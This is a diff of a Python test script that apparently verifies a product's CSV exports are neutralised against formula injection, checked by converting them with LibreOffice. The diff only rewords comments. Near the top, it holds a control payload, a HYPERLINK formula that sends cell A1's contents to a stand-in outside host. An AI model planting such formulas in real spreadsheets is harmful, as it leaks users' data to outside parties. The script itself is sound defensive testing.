@@ -29,7 +29,7 @@ FORMULA = '=HYPERLINK("http://outside.example/?"&A1;"open")'
 # contents, no export of formulas, keep blanks, first sheet, evaluate formulas
 EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
 ALIVE = re.compile(rb'table:formula="')
-# Texts that programs compare: names of states and kinds, addresses, digests, what stands in URLs.
+# Texts that programs compare: names of states and kinds, addresses, digests, parts of URLs.
 NOT_WORDS = re.compile(
     r"(^|_)(id|slug|email|username|password|status|kind|digest|sha256|hash|language|stage|outcome|setting|track|purpose|"
     r"scope|code|version|role|token|key_hash|url|file|method|rule|state|mode|provenance|country|timezone|ending|part)$"
@@ -45,7 +45,7 @@ def main() -> None:
     with scratch_product() as home:
         folder = home / "exports"
         folder.mkdir()
-        # A control: LibreOffice does run what stands in a CSV that nobody made inert.
+        # A control: LibreOffice does run formulas of a CSV that was not made inert.
         (folder / "control.csv").write_text(f'name\n"{FORMULA.replace(chr(34), chr(34) * 2)}"\n')
         collect(folder)
         rows = list(opened(office, folder))
@@ -186,7 +186,7 @@ def commands(folder: Path, world: Any, rater: str) -> None:
     }.items():
         try:
             call_command(name, *slug, *arguments, stdout=io.StringIO(), stderr=io.StringIO())
-        except Exception as error:  # a command that fails is told of, the others still count
+        except Exception as error:  # a command that fails is reported, the others still count
             print(f"{name}: {error}", file=sys.stderr)
     for path in list(folder.glob("*/*.csv")):
         path.rename(folder / f"{path.parent.name}_{path.name}")
